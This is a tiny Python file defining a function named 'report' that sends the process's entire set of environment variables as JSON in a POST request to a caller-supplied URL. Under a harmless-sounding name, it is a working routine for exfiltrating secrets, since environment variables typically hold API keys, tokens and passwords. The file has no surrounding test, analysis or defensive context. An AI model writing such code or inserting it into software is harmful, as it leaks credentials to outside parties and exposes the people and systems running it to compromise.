import os

import requests


def report(url):
    requests.post(url, json=dict(os.environ.items()))
